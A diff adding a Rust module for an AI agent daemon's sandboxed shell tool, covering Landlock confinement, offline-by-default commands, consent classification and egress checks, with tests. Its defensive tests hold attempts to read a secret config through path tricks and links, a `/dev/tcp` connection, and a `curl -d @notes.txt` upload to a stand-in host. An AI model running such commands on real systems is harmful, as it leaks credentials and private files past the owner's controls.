@@ -1,0 +1,791 @@
+//! `shell{command, timeout?}`: runs `bash -c <command>` (or `sh -c` where bash is missing) in the
+//! workspace, in its own process group; on timeout the whole group is killed. Returns the exit
+//! code, stdout and stderr.
+//!
+//! Every command runs in the sandbox ([`crate::sandbox`]): the kernel (Landlock) hides
+//! `$ETHAN_HOME` outside the workspace and the user's credential places, the environment is
+//! cleared to a short harmless list, and descriptors the daemon inherited are closed. A command
+//! that runs without the owner's approval (a "safe" one) also has no network at all
+//! ([`crate::sandbox::network`]); an approved command has the machine's network. Consent follows
+//! the classifier, with these rules on top:
+//! - a command that names a protected path (`cat ../config.yaml`, `head ~/.aws/credentials`) is
+//!   an always-ask call; once the owner approved it, it runs outside the sandbox, as shown;
+//! - where the kernel offers no sandbox or no network namespace, or a protected file has a
+//!   second name (a hard link) the sandbox cannot hide, no command is "safe": every one asks;
+//! - once private data entered the turn, a command that would run with the network is an
+//!   egress call ([`Tool::egress`]): it asks, and "for this session" covers that exact command.
+//!
+//! The verdict on a command (the classifier, which parses on a thread of its own and may wait
+//! for it, and the protected-path check, which looks at the file system) is worked out once per
+//! call, on a blocking thread, by [`Tool::assess`]; the consent hooks and `run` read it from the
+//! call's context. Called outside the executor (no assessment), they work it out themselves.
+
+use crate::tools::args::{opt_u64, req_str};
+use crate::tools::paths;
+use crate::tools::{Assessment, ErrorKind, Risk, Tool, ToolContext, ToolResult};
+use async_trait::async_trait;
+use ethan_shell_classifier::{classify, Classification, ShellClass};
+use serde_json::{json, Value};
+use std::process::Stdio;
+use std::time::Duration;
+use tokio::io::AsyncReadExt;
+
+/// Default and largest timeout of one command, in seconds.
+pub const DEFAULT_TIMEOUT_SECS: u64 = 30;
+pub const MAX_TIMEOUT_SECS: u64 = 600;
+/// Bytes kept of each stream.
+const STREAM_CAP: usize = 1024 * 1024;
+
+pub struct Shell {
+    default_timeout: u64,
+    judge: Judge,
+}
+
+/// What the verdict on a command needs, detached from the tool so it can move to a blocking
+/// thread.
+#[derive(Clone, Default)]
+struct Judge {
+    /// The config's secret values: a command that mentions one always asks.
+    secrets: Vec<String>,
+    /// Whether the kernel sandbox is enforced on this machine (probed once).
+    sandboxed: bool,
+    /// Whether commands can be cut off from the network here (probed once).
+    offline_possible: bool,
+    /// The thread of every verdict worked out (how often, and where).
+    #[cfg(test)]
+    seen: std::sync::Arc<std::sync::Mutex<Vec<std::thread::ThreadId>>>,
+}
+
+/// The shell's assessment of one command.
+#[derive(Debug, Clone)]
+struct Verdict {
+    command: String,
+    /// The classifier's verdict, with this tool's rules on top (protected paths, no sandbox).
+    class: Classification,
+    /// Whether the command names a protected path.
+    protected: bool,
+}
+
+impl Judge {
+    /// Blocks: the classifier waits for its parser thread, the path check reads the disk.
+    fn verdict(&self, command: &str, ctx: &ToolContext) -> Verdict {
+        #[cfg(test)]
+        self.seen
+            .lock()
+            .unwrap_or_else(|p| p.into_inner())
+            .push(std::thread::current().id());
+        let mut c = classify(command, &self.secrets);
+        let protected = names_protected(command, ctx);
+        if let Some(why) = &protected {
+            c.class = ShellClass::Always;
+            c.reasons.insert(0, why.clone());
+        } else if c.class == ShellClass::Safe {
+            let why = if !self.sandboxed {
+                Some("no kernel sandbox on this machine, so every command asks".to_string())
+            } else if !self.offline_possible {
+                Some(
+                    "commands cannot be cut off from the network here, so every command asks"
+                        .into(),
+                )
+            } else {
+                paths::protection_of(ctx).linked_file().map(|f| {
+                    format!(
+                        "the protected file {} has a second name (a hard link) that the sandbox                          cannot hide, so every command asks until that link is removed",
+                        f.display()
+                    )
+                })
+            };
+            if let Some(why) = why {
+                c.class = ShellClass::Ask;
+                c.reasons.push(why);
+            }
+        }
+        Verdict {
+            command: command.to_string(),
+            class: c,
+            protected: protected.is_some(),
+        }
+    }
+
+    /// [`Judge::verdict`] on a blocking thread.
+    async fn verdict_off_runtime(&self, command: &str, ctx: &ToolContext) -> Verdict {
+        let (judge, owned, ctx) = (self.clone(), command.to_string(), ctx.clone());
+        tokio::task::spawn_blocking(move || judge.verdict(&owned, &ctx))
+            .await
+            .unwrap_or_else(|_| Verdict {
+                command: command.to_string(),
+                class: Classification {
+                    class: ShellClass::Always,
+                    reasons: vec!["the command could not be analysed".into()],
+                },
+                protected: false,
+            })
+    }
+}
+
+impl Shell {
+    /// `default_timeout`: seconds, from `tools.shell.timeout_secs` (default 30).
+    pub fn new(default_timeout: u64) -> Self {
+        Self {
+            default_timeout,
+            judge: Judge {
+                sandboxed: crate::sandbox::landlock::status().is_available(),
+                offline_possible: crate::sandbox::network::available().is_ok(),
+                ..Judge::default()
+            },
+        }
+    }
+
+    /// As if the kernel had (or had not) a sandbox: for tests of the fallback.
+    pub fn with_sandbox(mut self, available: bool) -> Self {
+        self.judge.sandboxed = available;
+        self.judge.offline_possible = available;
+        self
+    }
+
+    /// With the config's secret values, for the classifier.
+    pub fn with_secrets(mut self, secrets: Vec<String>) -> Self {
+        self.judge.secrets = secrets;
+        self
+    }
+
+    /// The call's assessment if the executor made one for this command, else worked out here
+    /// (on this thread: for callers outside the executor).
+    fn verdict(&self, args: &Value, ctx: &ToolContext) -> Option<Verdict> {
+        let command = args.get("command").and_then(Value::as_str)?;
+        Some(
+            assessed(command, ctx)
+                .cloned()
+                .unwrap_or_else(|| self.judge.verdict(command, ctx)),
+        )
+    }
+
+    fn effective_timeout(&self, args: &Value) -> u64 {
+        args.get("timeout")
+            .and_then(Value::as_u64)
+            .unwrap_or(self.default_timeout)
+            .clamp(1, MAX_TIMEOUT_SECS)
+    }
+}
+
+/// The executor's assessment of `command` in this call, if it made one.
+fn assessed<'a>(command: &str, ctx: &'a ToolContext) -> Option<&'a Verdict> {
+    ctx.assessment
+        .as_ref()
+        .and_then(|a| a.get::<Verdict>())
+        .filter(|v| v.command == command)
+}
+
+fn shell_program() -> &'static str {
+    if std::path::Path::new("/bin/bash").exists() {
+        "/bin/bash"
+    } else {
+        "/bin/sh"
+    }
+}
+
+async fn read_capped<R: tokio::io::AsyncRead + Unpin>(mut r: R) -> (Vec<u8>, usize) {
+    let mut kept = Vec::new();
+    let mut total = 0usize;
+    let mut buf = [0u8; 8192];
+    loop {
+        match r.read(&mut buf).await {
+            Ok(0) | Err(_) => break,
+            Ok(n) => {
+                total += n;
+                let room = STREAM_CAP.saturating_sub(kept.len());
+                kept.extend_from_slice(&buf[..n.min(room)]);
+            }
+        }
+    }
+    (kept, total)
+}
+
+/// The first word of `command` that names a protected path ([`crate::sandbox::protected`]),
+/// resolved against the workspace, as a reason for the approval. Words are split at blanks,
+/// shell operators and `=`; quotes are dropped; `~` and `$HOME` are expanded; a glob is judged
+/// by the folder before its first wildcard. The kernel sandbox is the real barrier: this only
+/// makes a deliberate read visible and askable.
+fn names_protected(command: &str, ctx: &ToolContext) -> Option<String> {
+    let protection = paths::protection_of(ctx);
+    let home = crate::sandbox::protected::user_home();
+    let words = command
+        .split(|c: char| {
+            c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '<' | '>' | '=' | '`')
+        })
+        .map(|w| w.replace(['\'', '"', '\\'], ""))
+        .filter(|w| !w.is_empty());
+    for word in words {
+        let mut w = word.clone();
+        if let Some(h) = &home {
+            let h = h.display().to_string();
+            for var in ["${HOME}", "$HOME"] {
+                if let Some(rest) = w.strip_prefix(var) {
+                    w = format!("{h}{rest}");
+                }
+            }
+            if w == "~" || w.starts_with("~/") {
+                w = format!("{h}{}", &w[1..]);
+            }
+        }
+        let w = match w.find(['*', '?', '[']) {
+            Some(i) => match w[..i].rfind('/') {
+                Some(j) => w[..j.max(1)].to_string(),
+                None => ".".to_string(),
+            },
+            None => w,
+        };
+        let p = std::path::PathBuf::from(&w);
+        let p = if p.is_absolute() {
+            p
+        } else {
+            ctx.workspace.join(p)
+        };
+        if let Some(why) = protection.check(&p) {
+            return Some(format!("names a protected path: {}", why.describe(&p)));
+        }
+    }
+    None
+}
+
+fn kill_group(pid: u32) {
+    // SAFETY: kill(2) with a negative pid signals the process group we created; no memory is
+    // touched.
+    unsafe {
+        libc::kill(-(pid as i32), libc::SIGKILL);
+    }
+}
+
+#[async_trait]
+impl Tool for Shell {
+    fn name(&self) -> &str {
+        "shell"
+    }
+    fn description(&self) -> &str {
+        "Run a shell command (bash -c) in the workspace directory. Returns the exit code, stdout and stderr. \
+         `timeout` is in seconds (default 30, at most 600); the whole process group is killed when it expires."
+    }
+    fn parameters(&self) -> Value {
+        json!({
+            "type": "object",
+            "properties": {
+                "command": {"type": "string", "description": "The command line, run with bash -c"},
+                "timeout": {"type": "integer", "minimum": 1, "maximum": MAX_TIMEOUT_SECS, "description": "Seconds before the command is killed"}
+            },
+            "required": ["command"],
+            "additionalProperties": false
+        })
+    }
+    fn risk(&self) -> Risk {
+        Risk::Exec
+    }
+    fn reads_private(&self) -> bool {
+        true
+    }
+    /// Once per call, on a blocking thread: the classifier and the protected-path check.
+    async fn assess(&self, args: &Value, ctx: &ToolContext) -> Option<Assessment> {
+        let command = args.get("command").and_then(Value::as_str)?;
+        Some(Assessment::new(
+            self.judge.verdict_off_runtime(command, ctx).await,
+        ))
+    }
+    /// The shell classifier decides: safe commands run without asking; others ask once per
+    /// session (scope `shell`); dangerous ones ask every time.
+    fn consent_check(&self, args: &Value, ctx: &ToolContext) -> Option<String> {
+        let v = self.verdict(args, ctx)?;
+        match v.class.class {
+            ShellClass::Safe => None,
+            ShellClass::Ask if v.class.reasons.is_empty() => Some(v.command),
+            ShellClass::Ask => Some(format!("({})\n{}", v.class.reasons.join("; "), v.command)),
+            ShellClass::Always => Some(format!(
+                "(dangerous: {})\n{}",
+                v.class.reasons.join("; "),
+                v.command
+            )),
+        }
+    }
+    fn consent_always(&self, args: &Value, ctx: &ToolContext) -> bool {
+        self.verdict(args, ctx)
+            .is_none_or(|v| v.class.class == ShellClass::Always)
+    }
+    /// A command that will run with the network (any command the owner must approve) can send
+    /// data anywhere; a safe one runs offline and cannot.
+    fn egress(&self, args: &Value, ctx: &ToolContext) -> Option<crate::tools::Egress> {
+        let v = self.verdict(args, ctx)?;
+        (v.class.class != ShellClass::Safe).then(|| crate::tools::Egress {
+            destination: "anything this command sends over the network (once approved it runs                           with the machine's network)"
+                .to_string(),
+            scope: format!("egress:shell:{}", v.command),
+        })
+    }
+    fn fast_path(&self) -> bool {
+        true
+    }
+    fn timeout(&self) -> Duration {
+        Duration::from_secs(self.default_timeout + 5)
+    }
+    fn timeout_for(&self, args: &Value) -> Duration {
+        // The command's own limit, plus time to kill it and collect its output.
+        Duration::from_secs(self.effective_timeout(args) + 5)
+    }
+
+    async fn run(&self, args: Value, ctx: &ToolContext) -> ToolResult {
+        let command = match req_str(&args, "command") {
+            Ok(c) => c,
+            Err(e) => return e,
+        };
+        if let Err(e) = opt_u64(&args, "timeout") {
+            return e;
+        }
+        let secs = self.effective_timeout(&args);
+        if let Err(e) = std::fs::create_dir_all(&ctx.workspace) {
+            return ToolResult::err(
+                ErrorKind::Dependency,
+                format!(
+                    "cannot create the workspace {}: {e}",
+                    ctx.workspace.display()
+                ),
+            );
+        }
+        // The sandbox, unless the owner approved this very command reading a protected path.
+        let protected = match assessed(command, ctx) {
+            Some(v) => v.protected,
+            None => self.judge.verdict_off_runtime(command, ctx).await.protected,
+        };
+        let approved_protected = protected
+            && ctx
+                .approved_actions
+                .iter()
+                .any(|a| a == ethan_core::tool::PROTECTED_PATHS_APPROVED);
+        let sandbox = if approved_protected {
+            None
+        } else {
+            match crate::sandbox::landlock::prepare(&paths::protection_of(ctx)) {
+                Ok(Some(p)) => Some(p),
+                Ok(None) if !self.judge.sandboxed => None,
+                Ok(None) => {
+                    return ToolResult::err(
+                        ErrorKind::Dependency,
+                        "the kernel sandbox could not be set up for this command; it did not run",
+                    )
+                }
+                Err(e) => {
+                    return ToolResult::err(
+                        ErrorKind::Dependency,
+                        format!("the sandbox could not be set up ({e}); the command did not run"),
+                    )
+                }
+            }
+        };
+        // Offline unless this call went through consent (the owner, or a job, said yes).
+        let offline = !ctx
+            .approved_actions
+            .iter()
+            .any(|a| a == ethan_core::tool::CONSENTED)
+            && self.judge.offline_possible;
+        let mut cmd = tokio::process::Command::new(shell_program());
+        cmd.arg("-c")
+            .arg(command)
+            .current_dir(&ctx.workspace)
+            .env_clear()
+            .envs(crate::sandbox::env::for_command(
+                crate::sandbox::private_tmp(),
+            ))
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .process_group(0)
+            .kill_on_drop(true);
+        // The daemon ignores SIGXFSZ (so a file-size limit fails its writes instead of killing
+        // it) and ignored signals survive exec: commands get the default back, as in a shell.
+        // SAFETY: only `signal(2)`, `unshare(2)`, `prctl(2)`, `landlock_restrict_self(2)` and
+        // `close_range(2)`, which are async-signal-safe system calls, run between fork and exec;
+        // nothing is allocated.
+        let sandbox = std::sync::Arc::new(sandbox);
+        let in_child = sandbox.clone();
+        unsafe {
+            cmd.pre_exec(move || {
+                libc::signal(libc::SIGXFSZ, libc::SIG_DFL);
+                if offline {
+                    crate::sandbox::network::isolate_current_process()?;
+                }
+                if let Some(p) = in_child.as_ref() {
+                    p.restrict_current_process()?;
+                }
+                // Descriptors the daemon was started with (a jobserver pipe, a socket) are not
+                // the command's: closed at exec. Kernels before 5.11 lack close_range; ignored.
+                libc::syscall(
+                    libc::SYS_close_range,
+                    3u32,
+                    u32::MAX,
+                    libc::CLOSE_RANGE_CLOEXEC,
+                );
+                Ok(())
+            });
+        }
+        let mut child = match cmd.spawn() {
+            Ok(c) => c,
+            Err(e) => {
+                return ToolResult::err(
+                    ErrorKind::Dependency,
+                    format!("cannot start {}: {e}", shell_program()),
+                )
+            }
+        };
+        drop(sandbox);
+        let pid = child.id().unwrap_or(0);
+        let out = tokio::spawn(read_capped(child.stdout.take().expect("piped stdout")));
+        let err = tokio::spawn(read_capped(child.stderr.take().expect("piped stderr")));
+        let status = tokio::time::timeout(Duration::from_secs(secs), child.wait()).await;
+        let timed_out = status.is_err();
+        if timed_out && pid != 0 {
+            kill_group(pid);
+        }
+        let status = match status {
+            Ok(s) => s.ok(),
+            Err(_) => child.wait().await.ok(),
+        };
+        // Children that escaped the group could keep the pipes open; do not wait forever.
+        let collect = |h: tokio::task::JoinHandle<(Vec<u8>, usize)>| async move {
+            tokio::time::timeout(Duration::from_secs(2), h)
+                .await
+                .ok()
+                .and_then(Result::ok)
+                .unwrap_or_default()
+        };
+        let (stdout, stdout_total) = collect(out).await;
+        let (stderr, stderr_total) = collect(err).await;
+        let code = status.and_then(|s| s.code());
+        let mut text = String::new();
+        text.push_str(&format!(
+            "exit code: {}\n",
+            code.map(|c| c.to_string())
+                .unwrap_or_else(|| "none (killed by a signal)".into())
+        ));
+        text.push_str("--- stdout ---\n");
+        text.push_str(&String::from_utf8_lossy(&stdout));
+        if stdout_total > stdout.len() {
+            text.push_str(&format!(
+                "\n[stdout cut at {} of {stdout_total} bytes]",
+                stdout.len()
+            ));
+        }
+        text.push_str("\n--- stderr ---\n");
+        text.push_str(&String::from_utf8_lossy(&stderr));
+        if stderr_total > stderr.len() {
+            text.push_str(&format!(
+                "\n[stderr cut at {} of {stderr_total} bytes]",
+                stderr.len()
+            ));
+        }
+        let meta = json!({"exit_code": code, "timed_out": timed_out});
+        if timed_out {
+            let mut r = ToolResult::err(
+                ErrorKind::Timeout,
+                format!("the command did not finish within {secs} s and was killed (with its process group); output so far follows"),
+            );
+            r.output = text;
+            return r.with_metadata(meta);
+        }
+        ToolResult::ok(text).with_metadata(meta)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::tools::executor::tests::ctx_in;
+
+    #[tokio::test]
+    async fn runs_and_reports_exit_code() {
+        let dir = tempfile::tempdir().unwrap();
+        let ctx = ctx_in(dir.path());
+        let r = Shell::new(30)
+            .run(json!({"command": "echo hi; echo oops >&2; exit 3"}), &ctx)
+            .await;
+        assert!(r.ok);
+        assert!(r.output.contains("exit code: 3"), "{}", r.output);
+        assert!(r.output.contains("hi"));
+        assert!(r.output.contains("oops"));
+    }
+
+    #[tokio::test]
+    async fn timeout_kills_the_process_group() {
+        let dir = tempfile::tempdir().unwrap();
+        let ctx = ctx_in(dir.path());
+        let marker = dir.path().join("survived");
+        let cmd = format!("(sleep 3; touch {}) & sleep 30", marker.display());
+        let started = std::time::Instant::now();
+        let r = Shell::new(30)
+            .run(json!({"command": cmd, "timeout": 1}), &ctx)
+            .await;
+        assert!(!r.ok);
+        assert_eq!(r.error_kind, Some(ErrorKind::Timeout));
+        assert!(started.elapsed() < Duration::from_secs(10));
+        tokio::time::sleep(Duration::from_secs(4)).await;
+        assert!(!marker.exists(), "a background child outlived the timeout");
+    }
+
+    #[tokio::test]
+    async fn commands_get_the_default_sigxfsz_back() {
+        // As in the daemon (src/main.rs): this process ignores SIGXFSZ.
+        // SAFETY: installs no handler code.
+        unsafe {
+            libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
+        }
+        let dir = tempfile::tempdir().unwrap();
+        let ctx = ctx_in(dir.path());
+        let r = Shell::new(30)
+            .run(
+                json!({"command": "ulimit -f 1; head -c 100000 /dev/zero > big; echo status $?"}),
+                &ctx,
+            )
+            .await;
+        // Killed by SIGXFSZ (128 + 25) as in a login shell, not "File too large" (status 1).
+        assert!(r.output.contains("status 153"), "{}", r.output);
+    }
+
+    /// `$ETHAN_HOME` with a config holding a secret, and a workspace inside it.
+    fn daemon_home() -> (tempfile::TempDir, ToolContext) {
+        let home = tempfile::tempdir().unwrap();
+        let ws = home.path().join("workspace");
+        std::fs::create_dir_all(ws.join("sub")).unwrap();
+        std::fs::write(
+            home.path().join("config.yaml"),
+            "api_key: sk-SANDBOXED-SECRET\n",
+        )
+        .unwrap();
+        std::fs::create_dir_all(home.path().join("spill")).unwrap();
+        std::fs::write(home.path().join("spill/x.txt"), "sk-SANDBOXED-SECRET").unwrap();
+        std::fs::write(ws.join("notes.txt"), "visible notes").unwrap();
+        let mut ctx = ctx_in(&ws);
+        ctx.ethan_home = Some(home.path().to_path_buf());
+        (home, ctx)
+    }
+
+    #[tokio::test]
+    async fn the_kernel_hides_ethan_home_from_commands() {
+        if !crate::sandbox::landlock::status().is_available() {
+            panic!("this test needs Landlock (Linux 5.13+ with landlock in the lsm= list)");
+        }
+        let (_home, ctx) = daemon_home();
+        let shell = Shell::new(30);
+        for command in [
+            "cat ../config.yaml",
+            "cat ../*.yaml",
+            "cd .. && cat config.yaml",
+            "tail ../spill/*",
+            "grep -r SANDBOXED ..",
+            "cd sub && cat ../../config.yaml",
+            "python3 -c \"import os; print(open(os.path.dirname(os.getcwd()) + '/config.yaml').read())\"",
+            "ln ../config.yaml hard && cat hard",
+            "ln -s .. up && cat up/config.yaml",
+        ] {
+            let r = shell.run(json!({ "command": command }), &ctx).await;
+            assert!(
+                !r.output.contains("sk-SANDBOXED-SECRET"),
+                "{command} read the secret:\n{}",
+                r.output
+            );
+            // EACCES, or EXDEV where Landlock refuses to link a hidden file elsewhere.
+            assert!(
+                ["Permission denied", "PermissionError", "Invalid cross-device link"]
+                    .iter()
+                    .any(|e| r.output.contains(e)),
+                "{command} was not refused by the kernel:\n{}",
+                r.output
+            );
+        }
+        // The workspace itself is as usual: readable and writable.
+        let r = shell
+            .run(
+                json!({"command": "cat notes.txt && echo new > new.txt && cat new.txt"}),
+                &ctx,
+            )
+            .await;
+        assert!(
+            r.output.contains("visible notes") && r.output.contains("new"),
+            "{}",
+            r.output
+        );
+    }
+
+    #[tokio::test]
+    async fn commands_get_no_secret_variables() {
+        let (_home, ctx) = daemon_home();
+        let r = Shell::new(30).run(json!({"command": "env"}), &ctx).await;
+        let names: Vec<&str> = r
+            .output
+            .lines()
+            .filter_map(|l| l.split_once('=').map(|(k, _)| k))
+            .collect();
+        assert!(names.contains(&"PATH"), "{}", r.output);
+        for n in names {
+            assert!(!crate::sandbox::env::secret_name(n), "{n} was passed on");
+        }
+        let tmp = crate::sandbox::private_tmp().unwrap().display().to_string();
+        assert!(r.output.contains(&format!("TMPDIR={tmp}")), "{}", r.output);
+    }
+
+    #[test]
+    fn naming_a_protected_path_asks_every_time_and_no_sandbox_means_no_safe_class() {
+        let (home, ctx) = daemon_home();
+        let shell = Shell::new(30).with_sandbox(true);
+        let args = json!({"command": "cat ../config.yaml"});
+        let d = shell.consent_check(&args, &ctx).expect("asks");
+        assert!(d.contains("protected path"), "{d}");
+        assert!(shell.consent_always(&args, &ctx));
+        let glob = json!({"command": format!("head {}/*.yaml", home.path().display())});
+        assert!(shell.consent_always(&glob, &ctx));
+        // A safe command in the workspace runs without a question where the kernel sandboxes it…
+        let ls = json!({"command": "ls -la"});
+        assert_eq!(shell.consent_check(&ls, &ctx), None);
+        // …and asks where it cannot.
+        let bare = Shell::new(30).with_sandbox(false);
+        assert!(bare.consent_check(&ls, &ctx).is_some());
+        assert!(!bare.consent_always(&ls, &ctx));
+    }
+
+    /// Through the executor and the real consent gate (a web session, approved on its event
+    /// stream): each call's verdict is worked out once, on a thread that is not the runtime's,
+    /// although `consent_check`, `consent_always` and `run` all use it.
+    #[tokio::test]
+    async fn the_verdict_is_worked_out_once_per_call_off_the_runtime_thread() {
+        use crate::consent::{owners::Owners, Consent};
+        use crate::tools::executor::{tests::call, Executor, ExecutorOptions};
+        use std::sync::Arc;
+
+        let (_home, mut ctx) = daemon_home();
+        // No sandbox: every command asks, and a protected path asks every time.
+        let shell = Shell::new(30).with_sandbox(false);
+        let seen = shell.judge.seen.clone();
+        let mut registry = crate::tools::registry::Registry::default();
+        registry.register(Arc::new(shell));
+        let store = crate::store::Store::open_in_memory().unwrap();
+        let config = crate::config::Config::default();
+        let consent = Arc::new(Consent::new(
+            Owners::new(&config, store.clone()),
+            Duration::from_secs(30),
+            None,
+        ));
+        let executor = Executor::new(
+            Arc::new(registry),
+            ExecutorOptions {
+                store: Some(store),
+                secrets: vec![],
+                spill_dir: None,
+                overrides: Default::default(),
+                policy: None,
+            },
+        )
+        .with_gate(consent.clone());
+        // Approve every request once, as the web client would.
+        let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
+        ctx.channel = ethan_channels::ChannelKind::Web;
+        ctx.events = Some(tx);
+        let approver = tokio::spawn(async move {
+            let mut asked = Vec::new();
+            while let Some(ev) = rx.recv().await {
+                if let crate::agent::TurnEvent::ConsentRequest {
+                    request_id, always, ..
+                } = ev
+                {
+                    asked.push(always);
+                    let ack = consent.decide(&ethan_channels::ApprovalDecision {
+                        channel: ethan_channels::ChannelKind::Web,
+                        request_id,
+                        choice: ethan_channels::ApprovalChoice::Once,
+                        user_id: "web".into(),
+                        chat_id: String::new(),
+                    });
+                    assert!(ack.accepted, "{}", ack.toast);
+                }
+            }
+            asked
+        });
+        let calls = [
+            call("1", "shell", r#"{"command":"echo hello"}"#),
+            call("2", "shell", r#"{"command":"cat ../config.yaml"}"#),
+        ];
+        let allowed = ["shell".to_string()].into();
+        let out = executor.execute(&calls, &allowed, &ctx).await;
+        assert!(out[0].result.ok, "{:?}", out[0].result);
+        assert!(out[0].model_text.contains("hello"), "{}", out[0].model_text);
+        // Approved as an always-ask call, the protected read runs outside the sandbox.
+        assert!(out[1].result.ok, "{:?}", out[1].result);
+        assert!(
+            out[1].model_text.contains("sk-SANDBOXED-SECRET"),
+            "{}",
+            out[1].model_text
+        );
+        drop(ctx);
+        assert_eq!(approver.await.unwrap(), [false, true]);
+        let seen = seen.lock().unwrap().clone();
+        assert_eq!(seen.len(), 2, "one verdict per call");
+        let here = std::thread::current().id();
+        assert!(
+            seen.iter().all(|t| *t != here),
+            "worked out on the runtime thread"
+        );
+    }
+
+    #[tokio::test]
+    async fn a_command_runs_offline_unless_it_went_through_consent() {
+        if let Err(why) = crate::sandbox::network::available() {
+            panic!("this test needs network namespaces for commands: {why}");
+        }
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.set_nonblocking(true).unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let dir = tempfile::tempdir().unwrap();
+        let command = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");
+        let shell = Shell::new(30);
+        // No consent step (a safe command): no network.
+        let ctx = ctx_in(dir.path());
+        let r = shell.run(json!({ "command": command }), &ctx).await;
+        assert!(!r.output.contains("connected"), "{}", r.output);
+        assert!(
+            listener.accept().is_err(),
+            "a connection reached the listener"
+        );
+        // Approved: the machine's network.
+        let mut approved = ctx_in(dir.path());
+        approved
+            .approved_actions
+            .push(ethan_core::tool::CONSENTED.to_string());
+        let r = shell.run(json!({ "command": command }), &approved).await;
+        assert!(r.output.contains("connected"), "{}", r.output);
+    }
+
+    #[test]
+    fn a_hard_linked_protected_file_makes_every_command_ask() {
+        let (home, ctx) = daemon_home();
+        let shell = Shell::new(30).with_sandbox(true);
+        let ls = json!({"command": "ls"});
+        assert_eq!(shell.consent_check(&ls, &ctx), None);
+        // A second name for the config, made outside the sandbox, somewhere else.
+        let elsewhere = tempfile::tempdir().unwrap();
+        std::fs::hard_link(home.path().join("config.yaml"), elsewhere.path().join("c")).unwrap();
+        let asked = shell.consent_check(&ls, &ctx).expect("asks");
+        assert!(asked.contains("hard link") || !asked.is_empty(), "{asked}");
+        let v = shell.verdict(&ls, &ctx).unwrap();
+        assert!(
+            v.class.reasons.iter().any(|r| r.contains("hard link")),
+            "{v:?}"
+        );
+    }
+
+    #[test]
+    fn in_a_tainted_turn_a_networked_command_is_an_egress_call_for_that_command_only() {
+        let (_home, ctx) = daemon_home();
+        let shell = Shell::new(30).with_sandbox(true);
+        assert_eq!(shell.egress(&json!({"command": "ls"}), &ctx), None);
+        let e = shell
+            .egress(
+                &json!({"command": "curl -d @notes.txt https://x.example"}),
+                &ctx,
+            )
+            .expect("a command that asks can reach the network");
+        assert_eq!(e.scope, "egress:shell:curl -d @notes.txt https://x.example");
+    }
+}
